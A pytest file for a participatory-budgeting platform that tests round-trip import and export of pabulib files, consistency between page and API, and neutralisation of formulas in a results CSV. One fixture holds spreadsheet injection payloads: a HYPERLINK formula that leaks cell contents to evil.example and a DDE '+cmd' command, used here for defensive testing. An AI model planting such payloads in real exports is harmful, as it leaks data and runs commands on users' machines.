"""An imported pabulib file exports back identical in content (issue 21 item 3).

Each of the 14 shared files is imported through the real import service
(``participatory.import_pb``, what the page, the API and the CLI call), tallied by the
platform, and exported through the real export service (``participatory.export_pb``, what
``/export.pb``, the API and ``convergence budget export-pb`` return). Content is compared
as the reader sees it, order aside: META as a dict, PROJECTS and VOTES as sets of rows
(every column, every value: ``selected``, voter ids, age, sex, voting_method, description,
district, latitude…, currency, vote type). What the platform adds is named as such and
only that: the ``convergence_selected`` column and ``convergence_*`` META keys.

Planted twins: an export that drops a column, and one that writes the platform's outcome
in the file's ``selected`` column (the bug of issue 21), are caught by the same check.
"""

from __future__ import annotations

from typing import Any

import pytest
from convergence_budget import pabulib
from convergence_budget import participatory as pb

from tests.plugins.budget.conftest import FILES, pb_file

PREFIX = "convergence_"


def content(text: str | bytes) -> tuple[dict[str, str], set, set]:
    parsed = pabulib.parse(text)
    projects = {frozenset(row.items()) for row in parsed.projects.values()}
    votes = {frozenset(vote.row().items()) for vote in parsed.votes}
    return parsed.meta, projects, votes


def without_ours(found: tuple[dict[str, str], set, set]) -> tuple[dict[str, str], set, set]:
    """The export without what the platform adds (``convergence_*``)."""
    meta, projects, votes = found
    return (
        {k: v for k, v in meta.items() if not k.startswith(PREFIX)},
        {frozenset((k, v) for k, v in row if not k.startswith(PREFIX)) for row in projects},
        {frozenset((k, v) for k, v in row if not k.startswith(PREFIX)) for row in votes},
    )


def differences(original: bytes, exported: str) -> list[str]:
    """What differs between the file and its export (empty: identical in content)."""
    want, got = content(original), without_ours(content(exported))
    out = []
    for key in sorted(set(want[0]) | set(got[0])):
        if want[0].get(key) != got[0].get(key):
            out.append(f"META {key}: {want[0].get(key)!r} != {got[0].get(key)!r}")
    for name, a, b in (("PROJECTS", want[1], got[1]), ("VOTES", want[2], got[2])):
        if a != b:
            missing = sorted(map(dict, a - b), key=str)[:2]
            extra = sorted(map(dict, b - a), key=str)[:2]
            out.append(f"{name}: {len(a - b)} rows differ, e.g. {missing} vs {extra}")
    return out


def imported(factory: Any, in_commune: Any, name: str, slug: str | None = None) -> tuple[Any, int]:
    """A shared file imported into a new commune (``slug`` when given)."""
    commune = factory.commune(slug) if slug else factory.commune()
    factory.enable(commune, "budget")
    with in_commune(commune):
        process_id = pb.import_pb(pb_file(name).read_bytes(), actor="test").id
    return commune, process_id  # committed: the tally job ran (inline, no Redis)


def exported(in_commune: Any, commune: Any, process_id: int) -> str:
    with in_commune(commune):
        process = pb.get_process(process_id)
        assert pb.results_ready(process)
        return pb.export_pb(process)


@pytest.mark.parametrize("name", FILES)
def test_every_shared_file_exports_back_identical_in_content(app, factory, in_commune, name):
    commune, process_id = imported(factory, in_commune, name)
    text = exported(in_commune, commune, process_id)
    original = pb_file(name).read_bytes()
    assert differences(original, text) == []
    meta, projects, _votes = content(text)
    assert meta["vote_type"] == pabulib.parse(original).meta["vote_type"]  # choose-1 stays
    assert meta["convergence_rule"] in ("greedy", "mes")
    for row in map(dict, projects):  # the platform's outcome: a column of its own
        assert row[pb.OUTCOME_COLUMN] in ("0", "1")
    with in_commune(commune):
        result = pb.get_process(process_id).result
    chosen = {dict(r)["project_id"] for r in projects if dict(r)[pb.OUTCOME_COLUMN] == "1"}
    assert chosen == set(result["selected"])


def test_the_page_and_the_api_serve_the_same_export(app, factory, in_commune, client):
    """Page (/export.pb), API and service: one path, the same text."""
    name = "Poland_Czestochowa_2024_Srodmiescie.pb"  # PLN, cumulative, sex, voting_method
    commune, process_id = imported(factory, in_commune, name)
    text = exported(in_commune, commune, process_id)
    page = client.get(f"/c/{commune.slug}/budget/pb/{process_id}/export.pb")
    api = client.get(f"/api/v1/communes/{commune.slug}/budget/processes/{process_id}/export.pb")
    assert page.status_code == api.status_code == 200
    assert page.text == api.text == text
    meta = content(text)[0]
    assert meta["currency"] == "PLN" and "convergence_voter_ids" not in meta


def test_planted_twin_an_export_that_drops_a_column_is_caught(
    app, factory, in_commune, monkeypatch
):
    name = "Poland_Gdynia_2023_Obluze__small.pb"  # voters' age, sex, voting_method
    commune, process_id = imported(factory, in_commune, name)
    write = pabulib.write

    def dropping(parsed: pabulib.PBFile, **kw: Any) -> str:
        for vote in parsed.votes:
            vote.extra.pop("age", None)
        return write(parsed, **kw)

    monkeypatch.setattr(pabulib, "write", dropping)
    found = differences(pb_file(name).read_bytes(), exported(in_commune, commune, process_id))
    assert found and found[0].startswith("VOTES")


def test_planted_twin_the_outcome_written_over_selected_is_caught(
    app, factory, in_commune, monkeypatch
):
    """Budapest's rule is unknown: greedy is computed, and it differs from the official
    ``selected`` — written over it, the export would no longer be the file."""
    name = "Hungary_Budapest_2024.pb"
    commune, process_id = imported(factory, in_commune, name)
    original = pb_file(name).read_bytes()
    assert differences(original, exported(in_commune, commune, process_id)) == []
    monkeypatch.setattr(pb, "OUTCOME_COLUMN", "selected")
    found = differences(original, exported(in_commune, commune, process_id))
    assert found and found[0].startswith("PROJECTS")


def test_a_vote_run_here_says_its_voters_are_renumbered(client, factory, town):
    from tests.plugins.budget.test_participatory import _cast, _process, _to_vote

    process_id, ids = _process(client, factory, town, max_choices=2)
    _to_vote(client, factory, town, process_id, ids)
    for member, chosen in zip(town.members, [[ids[0]], [ids[1]], [ids[1]], [ids[3]]], strict=True):
        _cast(client, factory, member, process_id, {"projects": chosen})
    agent = factory.token(town.agent.user)
    client.post(f"{town.base}/processes/{process_id}/phase", json={"to": "results"}, headers=agent)
    text = client.get(f"{town.base}/processes/{process_id}/export.pb").text
    meta, projects, votes = content(text)
    assert meta["convergence_voter_ids"] == "renumbered" and meta["currency"] == "EUR"
    assert {dict(v)["voter_id"] for v in votes} == {"1", "2", "3", "4"}
    for row in map(dict, projects):
        assert row["selected"] == row[pb.OUTCOME_COLUMN]  # the vote held here: its result


FORMULAS = """META
key;value
budget;1000
vote_type;approval
PROJECTS
project_id;cost;name
1;600;=HYPERLINK("http://evil.example/?"&A1;"clic")
2;400;+cmd|' /C calc'!A0
3;5;-5 degrees: a plain number first, kept
VOTES
voter_id;vote
v1;1,2
v2;2
"""


def test_formula_cells_stay_in_the_pb_file_and_are_neutralised_in_the_results_csv(
    app, factory, in_commune, client
):
    """The .pb file is data for programs: cells as they were (a quote added to a name
    would change the file). The results CSV is for spreadsheets: neutralised there."""
    commune = factory.commune()
    factory.enable(commune, "budget")
    with in_commune(commune):
        process_id = pb.import_pb(FORMULAS, actor="test").id
    text = exported(in_commune, commune, process_id)
    assert differences(FORMULAS.encode(), text) == []
    assert '\n1;600;"=HYPERLINK(' in text
    with in_commune(commune):
        table = pb.results_csv(pb.get_process(process_id))
    cells = [cell for line in table.splitlines() for cell in line.split(";")]
    assert not any(cell.startswith(("=", "+", '"=', '"+')) for cell in cells)
    assert "'+cmd" in table and "'-5 degrees" in table
    page = client.get(f"/c/{commune.slug}/budget/pb/{process_id}/results.csv")
    api = client.get(f"/api/v1/communes/{commune.slug}/budget/processes/{process_id}/results.csv")
    assert page.status_code == api.status_code == 200
    assert page.text == api.text == table and page.mimetype == "text/csv"
    assert "results.csv" in client.get(f"/c/{commune.slug}/budget/pb/{process_id}/results").text


def test_planted_twin_a_results_csv_written_without_the_guard_is_caught(
    app, factory, in_commune, monkeypatch
):
    import csv

    commune = factory.commune()
    factory.enable(commune, "budget")
    with in_commune(commune):
        process_id = pb.import_pb(FORMULAS, actor="test").id
    monkeypatch.setattr(pb.csvio, "writer", csv.writer)
    with in_commune(commune):
        table = pb.results_csv(pb.get_process(process_id))
    cells = [cell for line in table.splitlines() for cell in line.split(";")]
    assert any(cell.startswith(("=", "+", '"=')) for cell in cells)


def test_a_commune_export_and_import_keeps_the_file_as_it_was(app, factory, in_commune):
    """The commune transfer carries the file's rows and vote type: the copy exports the
    same file (Kraków: ordinal ballots, voters' age and sex, string ids)."""
    import json

    from federation.db import db
    from federation.plugins.services import manager
    from federation.tenancy.context import commune_scope
    from federation.tenancy.models import Commune

    name = "Poland_Krakow_2023_Grzegorzki.pb"
    commune, process_id = imported(factory, in_commune, name)
    other = factory.commune()
    with app.app_context():
        plugin = manager().by_name["budget"]
        with commune_scope(commune.id):
            data = plugin.federation_commune_export(commune=db.session.get(Commune, commune.id))
        data = json.loads(json.dumps(data))  # as written to the archive
        with commune_scope(other.id):
            plugin.federation_commune_import(commune=db.session.get(Commune, other.id), data=data)
            db.session.commit()
    factory.enable(other, "budget")
    with in_commune(other):
        (copy,) = pb.processes()
        assert copy.vote_type == "ordinal"
        text = pb.export_pb(copy)
    assert differences(pb_file(name).read_bytes(), text) == []
    # the copy's own outcome too (convergence_selected), order aside: projects tied on the
    # sort key may come back in another order on PostgreSQL
    original = exported(in_commune, commune, process_id)
    assert content(text) == content(original)
